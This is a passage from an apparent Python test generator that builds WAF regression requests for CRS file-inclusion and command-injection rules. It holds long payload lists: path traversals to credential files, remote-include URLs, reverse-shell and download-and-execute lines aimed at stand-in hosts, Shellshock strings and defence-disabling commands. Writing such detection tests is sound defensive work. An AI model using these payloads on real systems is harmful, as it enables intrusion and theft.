"""Blind set "ninetyninth": a tenth author's positive regression tests for the CRS 3.3.4 request rules of the
rce, lfi and rfi families (930100-932200, paranoia levels 1-2) and for the request-rule titles CRS 4.x added to
those families, written from the rule titles alone, with benign requests that carry the same words.

Angle: for each detection title, the canonical attack the title names, then one test per alternative of its family
(keyword, command, function, file, scheme, dialect), favouring the less famous members and the shortest probes an
attacker sends, then the variants a rule must still catch: other quoting, casing, whitespace and comment
substitutes, concatenation, and the encodings a server decodes (URL, double URL, overlong UTF-8, IIS %u, HTML
entities, unicode escapes in JSON).

Families and sub-families (one sub per title, kebab-case from the title):
- lfi: path-traversal-encoded (930100), path-traversal (930110), os-file-access (930120),
  restricted-file-access (930130), and from 4.x os-file-access-in-headers, path-traversal-triple-dot.
- rfi: rfi-url-ip-address (931100), rfi-vulnerable-param-name (931110), rfi-trailing-question-mark (931120),
  rfi-off-domain-reference (931130, PL2).
- rce: unix-command-injection (932100), unix-command-injection-cont (932105), windows-command-injection (932110),
  windows-command-injection-cont (932115), windows-powershell-command (932120), unix-shell-expression (932130),
  windows-for-if-command (932140), direct-unix-command-execution (932150), unix-shell-code (932160),
  shellshock-header (932170), shellshock-args (932171), restricted-file-upload (932180),
  rce-bypass-technique (932200, PL2), and from 4.x unix-command-injection-no-evasion,
  unix-command-injection-evasion, unix-shell-alias-invocation, unix-shell-history-invocation,
  unix-command-injection-pipes-short, sqlite-system-command, smtp-imap-pop3-command,
  windows-command-injection-evasion, unix-shell-code-in-headers, direct-unix-command-absolute-path.

Placements: every payload is sent twice. Once to our real routes (query of /api/users, form of
/admin/users/search with csrf_token, JSON of /api/users, cookie, User-Agent, Referer, another header, a parameter
name, XML body, multipart field or filename, URL path), once the way a WAF's regression suite sends it: to paths
that are not our routes (/, /index.php, /get, /post, /search, /api/v1/items, /cgi-bin/test.cgi) with arbitrary
parameter names, as a query string, form, JSON, XML, a raw form-typed body, a header or a cookie (placements
prefixed "rs-"). Titles bound to a place keep to it: shellshock-header and the *-in-headers titles in headers,
restricted-file-access in the URL path, restricted-file-upload in upload file names and X-Filename headers,
rfi-vulnerable-param-name under the parameter names it is about.

Benign: the same words as people type them innocently (Slack messages and bios, public documentation links,
admin-panel searches, names and street addresses, ordinary uploads, ordinary browser headers).

Authorship and independence: written from general knowledge and the rule titles alone (no rule, engine, ruleset
regression test or public payload list was read; only the routes of gateway.yaml and the permitted model
helpers), measured once on unchanged code. Deterministic: no clock, no randomness.
"""

from __future__ import annotations

import json
import urllib.parse
from collections.abc import Iterator
from typing import Any

from .family_gen import UA, _form, _get, _json, _query
from .family_gen_blind_php import chat_and_bio, links_and_prose
from .records import numbered, print_records

NAME = "ninetyninth"

Entry = str | tuple[str, str]

# ---------------------------------------------------------------------------------------------------------------
# LFI
# ---------------------------------------------------------------------------------------------------------------
PATH_TRAVERSAL_ENCODED: list[Entry] = [
    "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "..%2f..%2f..%2fetc/hosts",
    "%2e%2e/%2e%2e/%2e%2e/windows/win.ini",
    "..%5c..%5c..%5cboot.ini",
    "%2E%2E%5C%2E%2E%5Cinetpub%5Cwwwroot%5Cweb.config",
    "%252e%252e%252f%252e%252e%252fetc%252fshadow",
    "..%252f..%252f..%252fproc/self/environ",
    "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/group",
    "..%c0%af..%c0%af..%c0%afetc%c0%afpasswd",
    "..%c1%9c..%c1%9cwindows%c1%9cwin.ini",
    "%u002e%u002e%u2215%u002e%u002e%u2215etc%u2215passwd",
    "%e0%80%ae%e0%80%ae/%e0%80%ae%e0%80%ae/etc/issue",
    ".%2e/.%2e/.%2e/etc/passwd",
    "%2e%2e%2f",
    "&#46;&#46;&#47;&#46;&#46;&#47;etc&#47;passwd",
]

PATH_TRAVERSAL: list[Entry] = [
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "....//....//....//etc/passwd",
    "..././..././..././etc/hosts",
    "/var/www/html/../../../etc/shadow",
    "..//..//..//etc/group",
    "..\\/..\\/..\\/etc/passwd",
    "../",
    "..;/..;/WEB-INF/web.xml",
    "../../../../../../etc/passwd%00.jpg",
    "..\\..\\..\\inetpub\\wwwroot\\web.config",
    "/static/..%2f../../app/config.py",
    ("../../../etc/passwd", "jsonu"),
    ("..\\..\\boot.ini", "jsonu"),
]

OS_FILE_ACCESS: list[Entry] = [
    "/etc/passwd",
    "/etc/shadow",
    "/proc/self/environ",
    "/proc/self/cmdline",
    "/etc/master.passwd",
    "/root/.bash_history",
    "/home/ubuntu/.ssh/id_rsa",
    "/etc/sudoers",
    "/var/log/apache2/access.log",
    "c:\\windows\\system32\\drivers\\etc\\hosts",
    "C:/boot.ini",
    "/etc/mysql/my.cnf",
    "/var/run/secrets/kubernetes.io/serviceaccount/token",
    "file:///etc/ssh/sshd_config",
    "/etc//./passwd",
    ("/etc/passwd", "jsonu"),
]

RESTRICTED_FILE_ACCESS: list[Entry] = [
    ".git/config",
    ".env",
    ".htaccess",
    ".htpasswd",
    "WEB-INF/web.xml",
    ".svn/entries",
    ".DS_Store",
    "web.config",
    ".hg/hgrc",
    ".user.ini",
    ".git/HEAD",
    ".bzr/README",
    "META-INF/MANIFEST.MF",
    ".idea/workspace.xml",
    ".aws/credentials",
    ".%67it/config",
]

OS_FILE_ACCESS_IN_HEADERS: list[Entry] = [
    "/etc/passwd",
    "../../../../etc/shadow",
    "/proc/self/environ",
    "c:\\windows\\win.ini",
    "/etc/group",
    "http://example.org/?file=../../../../etc/hosts",
    "/root/.ssh/authorized_keys",
    "/var/log/nginx/error.log",
    "/proc/version",
    "C:\\boot.ini",
]

PATH_TRAVERSAL_TRIPLE_DOT: list[Entry] = [
    ".../.../.../etc/passwd",
    "...\\...\\...\\windows\\win.ini",
    "/.../.../.../etc/shadow",
    "..../..../..../etc/hosts",
    ".../...//etc/group",
    "%2e%2e%2e/%2e%2e%2e/etc/passwd",
    "...%2f...%2f...%2fetc%2fissue",
    "....\\....\\boot.ini",
    "/..../..../proc/self/environ",
    ".../",
]

# ---------------------------------------------------------------------------------------------------------------
# RFI
# ---------------------------------------------------------------------------------------------------------------
RFI_URL_IP: list[Entry] = [
    "http://203.0.113.10/shell.txt",
    "https://198.51.100.7/inc.php",
    "ftp://192.0.2.33/payload.txt",
    "http://203.0.113.10:8080/c99.txt?",
    "http://[2001:db8::1]/x.php",
    "hTtP://198.51.100.23/x",
    "ftps://192.0.2.8/r.txt",
    "http://user@203.0.113.5/x.txt",
    "http%3A%2F%2F203.0.113.10%2Fshell.txt",
    "file://192.0.2.9/share/x.php",
    "https://203.0.113.99/r57.txt%00",
    "http://192.0.2.1/",
    "php://filter/resource=http://203.0.113.4/x.php",
    "http://3405803786/shell.txt",
]

# (parameter name, URL): the names old PHP applications took a path from
RFI_PARAM_NAMES: list[tuple[str, str]] = [
    ("mosConfig_absolute_path", "http://evil.example/cmd.txt?"),
    ("include", "http://evil.example/shell.txt"),
    ("inc", "https://evil.example/x.php"),
    ("file", "ftp://evil.example/up/r57.txt"),
    ("page", "http://evil.example/c99.txt"),
    ("path", "http://evil.example/"),
    ("template", "https://evil.example/tpl.txt"),
    ("include_path", "http://evil.example/lib/"),
    ("phpbb_root_path", "http://evil.example/x?"),
    ("pm_path", "http://evil.example/"),
    ("skin", "http://evil.example/skin.txt"),
    ("GALLERY_BASEDIR", "http://evil.example/x.txt?"),
    ("lang", "https://evil.example/en.php"),
    ("style", "http://evil.example/style.php"),
    ("INCLUDE", "HTTP://EVIL.EXAMPLE/SHELL.TXT"),
]

RFI_TRAILING_QM: list[Entry] = [
    "http://evil.example/shell.txt?",
    "https://evil.example/x?",
    "ftp://evil.example/a.txt?",
    "http://evil.example/r57.txt??",
    "http://evil.example/x.txt%3F",
    "HTTP://EVIL.EXAMPLE/C.TXT?",
    "ftps://evil.example/b?",
    "http://evil.example:8080/inc.txt?",
    "//evil.example/x.txt?",
    "file://evil.example/share/x.txt?",
    "http://evil.example/x.txt%253F",
    "http://user:pw@evil.example/x?",
    "https://evil.example/shell.php?",
    ("http://evil.example/shell.txt?", "jsonu"),
]

RFI_OFF_DOMAIN: list[Entry] = [
    "http://evil.example/shell.php",
    "https://attacker.test/payload",
    "ftp://files.evil.example/x",
    "ftps://evil.example/x",
    "file://evil.example/c$/x",
    "//evil.example/x.php",
    "\\\\evil.example\\share\\x.php",
    "HtTpS://evil.example/y.txt",
    "https://evil.example/x.txt#",
    "http%3A%2F%2Fevil.example%2Fx.php",
    "http:\\\\evil.example\\x.php",
    "php://filter/resource=http://evil.example/x",
    "gopher://evil.example:70/1x",
    "https://trusted.example%40evil.example/",
]

# ---------------------------------------------------------------------------------------------------------------
# RCE
# ---------------------------------------------------------------------------------------------------------------
UNIX_CMD_INJECTION: list[Entry] = [
    ";id",
    "|whoami",
    "& uname -a",
    "&& cat /etc/passwd",
    "|| ls -la /",
    ";nc -e /bin/sh 203.0.113.5 4444",
    "`wget http://evil.example/x -O /tmp/x`",
    "$(curl evil.example/s|sh)",
    "; chmod 777 /tmp/x",
    "| base64 -d",
    ";awk 'BEGIN{system(\"id\")}'",
    "%0aifconfig",
    "; crontab -l",
    "|dig evil.example",
    "; getent passwd",
    ("; cat /etc/passwd", "jsonu"),
]

UNIX_CMD_INJECTION_CONT: list[Entry] = [
    ";ping -c 4 203.0.113.5",
    "| nslookup evil.example",
    "; python -c 'import pty;pty.spawn(\"/bin/sh\")'",
    "; perl -e 'exec \"/bin/sh\"'",
    "|ruby -rsocket -e 'exit'",
    "&& wget -q evil.example/a",
    "; telnet 203.0.113.5 23",
    "; sh -i",
    "| tftp -i 203.0.113.5 GET x",
    "; ps aux",
    "; xterm -display 203.0.113.5:1",
    "; sed -n 1p /etc/shadow",
    "; socat tcp:203.0.113.5:80 exec:sh",
    "; php -r 'system(\"id\");'",
    "; useradd -o -u 0 x",
    "%3Bnetstat%20-an",
]

WINDOWS_CMD_INJECTION: list[Entry] = [
    "& dir c:\\",
    "| type c:\\windows\\win.ini",
    "&& net user",
    "; ipconfig /all",
    "|| systeminfo",
    "& whoami /priv",
    "& tasklist /v",
    "| net localgroup administrators",
    "& ping -n 3 203.0.113.5",
    "& certutil -urlcache -split -f http://evil.example/x.exe x.exe",
    "& bitsadmin /transfer j http://evil.example/x c:\\x.exe",
    "| reg query HKLM\\Software\\Microsoft",
    "& wmic process list",
    "& cmd /c ver",
    "%26%20netstat%20-ano",
]

WINDOWS_CMD_INJECTION_CONT: list[Entry] = [
    "& regsvr32 /s /n /u /i:http://evil.example/x.sct scrobj.dll",
    "& mshta http://evil.example/x.hta",
    "& rundll32 javascript:\"\\..\\mshtml,RunHTMLApplication\"",
    "| wscript c:\\temp\\x.vbs",
    "& msiexec /q /i http://evil.example/x.msi",
    "& schtasks /create /tn x /tr calc.exe /sc once /st 00:00",
    "& sc create x binPath= c:\\x.exe",
    "& vssadmin list shadows",
    "& wevtutil cl security",
    "& nltest /domain_trusts",
    "| qwinsta",
    "& cacls c:\\windows\\win.ini",
    "& xcopy c:\\inetpub\\wwwroot c:\\temp /s",
    "& fsutil fsinfo drives",
    "& nbtstat -a 203.0.113.5",
    "&& %COMSPEC% /c set",
]

POWERSHELL: list[Entry] = [
    "powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')\"",
    "Invoke-Expression 'whoami'",
    "Invoke-WebRequest -Uri http://evil.example/x -OutFile x.exe",
    "Get-ChildItem C:\\",
    "Start-Process calc.exe",
    "powershell.exe -EncodedCommand SQBFAFgAIAAoAGkAdwByACkA",
    "pwsh -c Get-Process",
    "Get-Content C:\\Windows\\win.ini",
    "Set-MpPreference -DisableRealtimeMonitoring $true",
    "Get-WmiObject Win32_Process",
    "New-Object System.Net.Sockets.TCPClient('203.0.113.5',443)",
    "Invoke-RestMethod http://evil.example/x",
    "iwr http://evil.example -useb | iex",
    "Set-ExecutionPolicy Bypass -Scope Process",
    "PoWeRsHeLl -ExecutionPolicy bypass -File x.ps1",
    "& powershell%20-c%20Get-LocalUser",
]

UNIX_SHELL_EXPRESSION: list[Entry] = [
    "$(id)",
    "`uname -a`",
    "${IFS}",
    "<(cat /etc/passwd)",
    ">(nc 203.0.113.5 80)",
    "$((7*7))",
    "${PATH:0:1}",
    "$(< /etc/hostname)",
    "x$(sleep${IFS}5)",
    "$'\\151\\144'",
    "$[6*7]",
    "${SHELL}",
    "=(ls)",
    "$(printf '\\x69\\x64')",
    ("$(id)", "jsonu"),
]

WINDOWS_FOR_IF: list[Entry] = [
    "for /f \"tokens=*\" %i in ('whoami') do @echo %i",
    "for /l %i in (1,1,10) do ping -n 1 203.0.113.5",
    "for /d %d in (c:\\*) do dir %d",
    "for /r c:\\ %f in (*.config) do type %f",
    "if exist c:\\windows\\win.ini (type c:\\windows\\win.ini)",
    "if not exist c:\\x.txt echo 1",
    "if defined PATH echo %PATH%",
    "if errorlevel 1 dir",
    "if /i %USERNAME%==administrator whoami",
    "FOR %a IN (*.ini) DO type %a",
    "& for /F %%x in ('dir /b') do echo %%x",
    "for/f %i in ('net user') do echo %i",
    "IF EXIST c:\\boot.ini (TYPE c:\\boot.ini)",
    "if%20exist%20c:\\boot.ini%20type%20c:\\boot.ini",
]

DIRECT_UNIX: list[Entry] = [
    "id",
    "whoami",
    "uname -a",
    "cat /etc/passwd",
    "ls -la /var/www",
    "wget http://evil.example/x.sh",
    "curl -o /tmp/x http://evil.example/x",
    "nc -lvp 4444 -e /bin/bash",
    "bash -c 'id'",
    "python3 -c 'import os;os.system(\"id\")'",
    "perl -e 'system(\"id\")'",
    "ping -c 1 203.0.113.5",
    "busybox telnetd -l /bin/sh -p 2323",
    "nslookup evil.example",
    "sleep 10",
    "uname%20-a",
]

UNIX_SHELL_CODE: list[Entry] = [
    "/bin/bash",
    "/bin/sh -i",
    "/usr/bin/id",
    "/b'i'n/b\"a\"sh",
    "/b\\in/s\\h",
    "/usr/bin/python",
    "/bin/zsh",
    "/usr/bin/wget",
    "/usr/local/bin/nc",
    "/bin/busybox",
    "/usr/bin/curl",
    "/sbin/ifconfig",
    "/usr/bin/perl",
    "/bin/ksh",
    "/bin/b^ash",
    "%2Fbin%2Fdash",
]

SHELLSHOCK_HEADER: list[Entry] = [
    "() { :; }; /bin/bash -c 'id'",
    "() { :;}; echo; /bin/cat /etc/passwd",
    "() { _; } >_[$($())] { id; }",
    "() { x;};echo vulnerable",
    "() { :; }; /usr/bin/wget http://evil.example/x -O /tmp/x",
    "() { ignored; }; /bin/sleep 5",
    "() { :; }; echo Content-Type: text/plain; echo; id",
    "() {\t:;\t};id",
    "() { :;};a=/bin/sh;$a -c id",
    "() { (a)=>\\' bash -c 'echo date'",
    "() { :; }; nc 203.0.113.5 4444 -e /bin/bash",
    "() { :; }; ping -c 1 203.0.113.5",
    "() { :; }; /usr/bin/curl -s evil.example/x | /bin/sh",
]

SHELLSHOCK_ARGS: list[Entry] = [
    "() { :; }; /bin/bash -c id",
    "() { :;}; echo; /usr/bin/id",
    "() { ignored; }; /bin/cat /etc/shadow",
    "() { _; } >_[$($())] { whoami; }",
    "() { (a)=>\\' sh -c 'uname -a'",
    "() { :; }; /bin/sh -c 'sleep 5'",
    "() { x; }; ping -c 3 203.0.113.5",
    "() { :; };/usr/bin/curl evil.example|sh",
    "() { :;};echo;echo $(</etc/passwd)",
    "() { a;};a=/bin/sh;$a -c id",
    "() {\t:;};id",
    "%28%29%20%7B%20%3A%3B%20%7D%3B%20id",
    ("() { :; }; id", "jsonu"),
]

RESTRICTED_UPLOAD: list[Entry] = [
    ".htaccess",
    "web.config",
    ".user.ini",
    ".htpasswd",
    ".htdigest",
    "wp-config.php",
    "settings.php",
    "local.xml",
    "parameters.yml",
    ".env",
    "../../.htaccess",
    ".HTACCESS",
    "web.config::$DATA",
    "LocalSettings.php",
    "php.ini",
]

RCE_BYPASS: list[Entry] = [
    "c''at /etc/passwd",
    "w\"h\"o\"a\"m\"i",
    "/???/??t /???/p??s??",
    "c\\at /e\\tc/pa\\sswd",
    "cat$IFS/etc/passwd",
    "w$()hoami",
    "/bin/c[a]t /etc/pass[w]d",
    "ca${x}t /etc/hosts",
    "{cat,/etc/passwd}",
    "$(rev<<<'imaohw')",
    "who``ami",
    "i''d",
    "X=$'cat\\x20/etc/passwd'&&$X",
    "ls${IFS%?}-la",
    ("c''at /etc/passwd", "jsonu"),
]

UNIX_NO_EVASION: list[Entry] = [
    ";ls",
    "|id",
    "&&pwd",
    "; env",
    "| df -h",
    "; last",
    "; lsof -i",
    "; mount",
    "; hostname",
    "|| uptime",
]

UNIX_EVASION: list[Entry] = [
    ";c'a't /etc/passwd",
    "|w\\ho\\am\\i",
    ";/???/n? -e /???/b??h 203.0.113.5 4444",
    ";ca\"\"t${IFS}/etc/hosts",
    "&&{ls,-al}",
    ";$u/bin$u/id",
    "|whoa$()mi",
    ";/b[i]n/s[h]",
    ";l\\s -l\\a",
    "`w'h'o'a'm'i`",
]

UNIX_ALIAS: list[Entry] = [
    "; alias x=id; x",
    "| alias s='/bin/sh'",
    "&& alias -p",
    "; unalias -a; id",
    "$(alias w=whoami;w)",
    "; builtin alias x=uname",
    "; alias p=ping;p -c1 203.0.113.5",
    "alias ls='rm -rf /tmp/x'",
    "; \\alias c=cat",
    "%3Balias%20x%3Did%3Bx",
]

UNIX_HISTORY: list[Entry] = [
    ";!!",
    "; !-2",
    "$(!!)",
    "; !ls",
    "; history",
    "; history | tail -n 20",
    "; !?passwd?",
    "; fc -l",
    "; fc -s",
    "&& !$",
]

UNIX_PIPES_SHORT: list[Entry] = [
    "|ls",
    "|id",
    "|w",
    "|ps",
    "|df",
    "|du -a /",
    "|nc 203.0.113.5 80",
    "|od /etc/passwd",
    "|tac /etc/hosts",
    "|ip a",
    "|dd if=/etc/shadow",
    "|sh",
]

SQLITE_SYSTEM: list[Entry] = [
    ".system id",
    ".shell cat /etc/passwd",
    "\n.system whoami",
    "';\n.shell id\n--",
    ".output /var/www/html/x.php",
    ".once |sh",
    ".load /tmp/x.so",
    ".import /etc/passwd t",
    ".read /tmp/x.sql",
    ".sh uname -a",
]

MAIL_PROTOCOLS: list[Entry] = [
    "a@example.org\r\nRCPT TO:<victim@evil.example>",
    "x\r\nMAIL FROM:<spoof@evil.example>\r\n",
    "\r\nHELO evil.example\r\n",
    "\r\nEHLO x\r\nDATA\r\nSubject: hi\r\n.\r\nQUIT",
    "x\r\nVRFY root\r\n",
    "INBOX\r\na1 LOGIN admin hunter2\r\n",
    "x\r\nA2 SELECT INBOX\r\n",
    "x\r\na3 FETCH 1:* (BODY[])\r\n",
    "\r\nUSER admin\r\nPASS x\r\n",
    "x\r\nRETR 1\r\n",
    "x\r\nDELE 1\r\n",
    "x%0d%0aRCPT%20TO:<victim@evil.example>",
]

WINDOWS_EVASION: list[Entry] = [
    "& c^m^d /c who^ami",
    "| p^o^w^e^r^s^h^e^l^l -c id",
    "&\"w\"h\"o\"a\"m\"i",
    "& %comspec% /c dir",
    "& cmd.exe /v:on /c \"set x=who&&set y=ami&&call %x%%y%\"",
    "& ,;cmd /c dir",
    "& c:\\windows\\system32\\cmd.exe /c ver",
    "|cmd/c ver",
    "& cmd /c \"who\"\"ami\"",
    "& %ProgramData:~0,1%%ProgramData:~9,2% /c id",
    "& C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -c id",
    "& cmd /c t^y^p^e c:\\windows\\win.ini",
]

SHELL_CODE_IN_HEADERS: list[Entry] = [
    "/bin/bash -c id",
    "$(curl -s evil.example|sh)",
    "`id`",
    "; /usr/bin/wget http://evil.example/x -O /tmp/x",
    "/bin/sh -i >& /dev/tcp/203.0.113.5/4444 0>&1",
    "| /usr/bin/nc 203.0.113.5 4444",
    "/usr/bin/python -c 'import os'",
    "${IFS}cat${IFS}/etc/passwd",
    "/bin/b'a'sh",
    "&& /usr/bin/id",
]

DIRECT_UNIX_ABS: list[Entry] = [
    "/bin/cat /etc/passwd",
    "/usr/bin/id",
    "/???/??t /etc/passwd",
    "/bin/l? -la",
    "/u*/b*/wh*ami",
    "/usr/bin/w?oami",
    "/s?in/ifconfig",
    "/bin/n[c] -e /bin/sh 203.0.113.5 4444",
    "/usr/bin/pyth*n3 -c 'print(1)'",
    "/usr/sbin/useradd x",
]

# (category, sub, entries, where): where names a placement plan of PLANS
TITLES: list[tuple[str, str, list[Entry], str]] = [
    ("lfi", "path-traversal-encoded", PATH_TRAVERSAL_ENCODED, "any"),
    ("lfi", "path-traversal", PATH_TRAVERSAL, "any"),
    ("lfi", "os-file-access", OS_FILE_ACCESS, "any"),
    ("lfi", "restricted-file-access", RESTRICTED_FILE_ACCESS, "urlpath"),
    ("lfi", "os-file-access-in-headers", OS_FILE_ACCESS_IN_HEADERS, "headers"),
    ("lfi", "path-traversal-triple-dot", PATH_TRAVERSAL_TRIPLE_DOT, "any"),
    ("rfi", "rfi-url-ip-address", RFI_URL_IP, "args"),
    ("rfi", "rfi-trailing-question-mark", RFI_TRAILING_QM, "args"),
    ("rfi", "rfi-off-domain-reference", RFI_OFF_DOMAIN, "args"),
    ("rce", "unix-command-injection", UNIX_CMD_INJECTION, "any"),
    ("rce", "unix-command-injection-cont", UNIX_CMD_INJECTION_CONT, "any"),
    ("rce", "windows-command-injection", WINDOWS_CMD_INJECTION, "any"),
    ("rce", "windows-command-injection-cont", WINDOWS_CMD_INJECTION_CONT, "any"),
    ("rce", "windows-powershell-command", POWERSHELL, "any"),
    ("rce", "unix-shell-expression", UNIX_SHELL_EXPRESSION, "any"),
    ("rce", "windows-for-if-command", WINDOWS_FOR_IF, "any"),
    ("rce", "direct-unix-command-execution", DIRECT_UNIX, "any"),
    ("rce", "unix-shell-code", UNIX_SHELL_CODE, "any"),
    ("rce", "shellshock-header", SHELLSHOCK_HEADER, "shellshock"),
    ("rce", "shellshock-args", SHELLSHOCK_ARGS, "args-files"),
    ("rce", "restricted-file-upload", RESTRICTED_UPLOAD, "upload"),
    ("rce", "rce-bypass-technique", RCE_BYPASS, "any"),
    ("rce", "unix-command-injection-no-evasion", UNIX_NO_EVASION, "any"),
    ("rce", "unix-command-injection-evasion", UNIX_EVASION, "any"),
    ("rce", "unix-shell-alias-invocation", UNIX_ALIAS, "any"),
    ("rce", "unix-shell-history-invocation", UNIX_HISTORY, "any"),
    ("rce", "unix-command-injection-pipes-short", UNIX_PIPES_SHORT, "any"),
    ("rce", "sqlite-system-command", SQLITE_SYSTEM, "args"),
    ("rce", "smtp-imap-pop3-command", MAIL_PROTOCOLS, "args"),
    ("rce", "windows-command-injection-evasion", WINDOWS_EVASION, "any"),
    ("rce", "unix-shell-code-in-headers", SHELL_CODE_IN_HEADERS, "headers"),
    ("rce", "direct-unix-command-absolute-path", DIRECT_UNIX_ABS, "any"),
]

OURS = ["query", "form", "json", "cookie", "header:User-Agent", "header:Referer", "header:X-Client-Info",
        "param-name", "xml", "multipart-field", "path"]
RS = ["rs-query", "rs-form", "rs-json", "rs-xml", "rs-raw-body", "rs-header:User-Agent", "rs-header:Referer",
      "rs-header:X-Custom", "rs-cookie"]
PLANS: dict[str, tuple[list[str], list[str]]] = {
    "any": (OURS, RS),
    "args": (["query", "form", "json", "xml", "multipart-field", "param-name"],
             ["rs-query", "rs-form", "rs-json", "rs-xml", "rs-raw-body"]),
    "args-files": (["query", "form", "json", "param-name", "multipart-filename", "xml"],
                   ["rs-query", "rs-form", "rs-json", "rs-raw-body", "rs-xml", "rs-multipart-filename"]),
    "headers": (["header:User-Agent", "header:Referer", "header:X-Client-Info", "header:Accept-Language"],
                ["rs-header:User-Agent", "rs-header:Referer", "rs-header:X-Custom"]),
    "shellshock": (["header:User-Agent", "header:Referer", "header:X-Client-Info", "header:Cookie"],
                   ["rs-header:User-Agent", "rs-header:Referer", "rs-header:X-Custom", "rs-header:Cookie"]),
    "urlpath": (["path", "path", "query"], ["rs-path", "rs-path", "rs-query"]),
    "upload": (["multipart-filename", "header:X-Filename", "multipart-filename", "header:X-File-Name"],
               ["rs-multipart-filename", "rs-header:X-Filename", "rs-multipart-filename", "rs-header:X_Filename"]),
}
OUR_PARAMS = ["q", "name", "filter", "file", "sort", "lang", "callback", "note"]
RS_PATHS = ["/", "/index.php", "/get", "/post", "/search", "/api/v1/items", "/cgi-bin/test.cgi"]
RS_PARAMS = ["foo", "var", "x", "test", "id", "arg1"]
RS_UA = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36"
BOUNDARY = "----WebKitFormBoundary7MA4YWxkTrZu0gW"
HEX = set("0123456789abcdefABCDEF")
UNRESERVED = set("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-._~")


def wire(p: str, safe: str = "/:@!$'()*,;=?") -> str:
    """`p` as an attacker types it into a URL or form body: characters that must be escaped are, but an
    escape already in the payload (%2e, %252f, %u002e) is kept as it is, for the server to decode."""
    out = []
    i = 0
    while i < len(p):
        c = p[i]
        kept_escape = c == "%" and (set(p[i + 1:i + 3]) <= HEX and len(p[i + 1:i + 3]) == 2
                                    or p[i + 1:i + 2] in ("u", "U"))
        if kept_escape or c in UNRESERVED or c in safe:
            out.append(c)
        else:
            out.append(urllib.parse.quote(c, safe=""))
        i += 1
    return "".join(out)


def json_u(p: str) -> str:
    """`p` as a JSON string literal with its punctuation and every other letter written as \\u escapes."""
    out = []
    for k, c in enumerate(p):
        if not c.isalnum() or k % 2 == 0:
            out.append(f"\\u{ord(c):04x}")
        else:
            out.append(c)
    return '"' + "".join(out) + '"'


def xml_text(p: str) -> str:
    return p.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def _headers(extra: dict[str, str] | None = None, ua: str = UA) -> dict[str, str]:
    return {"User-Agent": ua, "Accept": "*/*", **(extra or {})}


def _multipart(fields: list[tuple[str, str]], file: tuple[str, str] | None) -> str:
    parts = []
    for name, value in fields:
        parts.append(f"--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"{name}\"\r\n\r\n{value}\r\n")
    if file is not None:
        fname, content = file
        fname = fname.replace("\"", "%22").replace("\r", "%0D").replace("\n", "%0A")
        parts.append(f"--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"upload\"; filename=\"{fname}\"\r\n"
                     f"Content-Type: application/octet-stream\r\n\r\n{content}\r\n")
    return "".join(parts) + f"--{BOUNDARY}--\r\n"


def _mp_request(uri: str, body: str, ua: str = UA) -> dict[str, Any]:
    return {"method": "POST", "uri": uri, "body": body,
            "headers": _headers({"Content-Type": f"multipart/form-data; boundary={BOUNDARY}"}, ua)}


def header_ok(p: str) -> bool:
    return not any(c in p for c in "\r\n\x00")


def path_ok(p: str) -> bool:
    once = urllib.parse.unquote(p)
    return ".." not in once and ".." not in urllib.parse.unquote(once)


def ours(place: str, name: str, p: str, n: int) -> dict[str, Any]:
    """The payload in one of our routes' input places."""
    if place == "query":
        return _get(f"/api/users?{name}={wire(p)}&page=1")
    if place == "form":
        return {**_form("/admin/users/search", [("csrf_token", "t0k3n")]),
                "body": f"csrf_token=t0k3n&{name}={wire(p, safe='/:@!$()*,;?')}"}
    if place == "json":
        return _json("/api/users", {"email": "a@example.org", name: p})
    if place == "cookie":
        return {**_get("/api/users?page=1"),
                "headers": _headers({"Cookie": f"session=abc123; prefs={wire(p, safe='/:@!$()*?')}"})}
    if place.startswith("header:"):
        hname = place.split(":", 1)[1]
        if hname == "User-Agent":
            return {**_get("/api/users?page=1"), "headers": _headers(ua=p)}
        return {**_get("/api/users?page=1"), "headers": _headers({hname: p})}
    if place == "param-name":
        return _get(f"/api/users?{wire(p, safe='/:@!$()*,;?')}=1&page=1")
    if place == "xml":
        body = f"<?xml version=\"1.0\"?><user><email>a@example.org</email><{name}>{xml_text(p)}</{name}></user>"
        return {"method": "POST", "uri": "/api/users", "body": body,
                "headers": _headers({"Content-Type": "application/xml"})}
    if place == "multipart-field":
        return _mp_request("/admin/users/import", _multipart([("csrf_token", "t0k3n"), (name, p)], None))
    if place == "multipart-filename":
        return _mp_request("/admin/users/import",
                           _multipart([("csrf_token", "t0k3n")], (p, "name,email\nAnn,ann@example.org\n")))
    if place == "path":
        prefix = "/api/users/" if n % 2 else "/admin/"
        return _get(prefix + wire(p.lstrip("/"), safe="/:@!$'()*,;="))
    raise ValueError(place)


def regression_suite(place: str, path: str, name: str, p: str) -> dict[str, Any]:
    """The payload as a WAF regression suite sends it: to a path that is not one of our routes."""
    kind = place[3:]
    if kind == "query":
        return {**_get(f"{path}?{name}={wire(p)}"), "headers": _headers(ua=RS_UA)}
    if kind == "form":
        return {"method": "POST", "uri": path, "body": f"{name}={wire(p, safe='/:@!$()*,;?')}",
                "headers": _headers({"Content-Type": "application/x-www-form-urlencoded"}, RS_UA)}
    if kind == "json":
        return {"method": "POST", "uri": path, "body": json.dumps({name: p}),
                "headers": _headers({"Content-Type": "application/json"}, RS_UA)}
    if kind == "xml":
        body = f"<?xml version=\"1.0\"?><root><{name}>{xml_text(p)}</{name}></root>"
        return {"method": "POST", "uri": path, "body": body,
                "headers": _headers({"Content-Type": "text/xml"}, RS_UA)}
    if kind == "raw-body":
        return {"method": "POST", "uri": path, "body": p,
                "headers": _headers({"Content-Type": "application/x-www-form-urlencoded"}, RS_UA)}
    if kind == "cookie":
        return {**_get(path), "headers": _headers({"Cookie": f"{name}={wire(p, safe='/:@!$()*?')}"}, RS_UA)}
    if kind.startswith("header:"):
        hname = kind.split(":", 1)[1]
        if hname == "User-Agent":
            return {**_get(path), "headers": _headers(ua=p)}
        return {**_get(path), "headers": _headers({hname: p}, RS_UA)}
    if kind == "path":
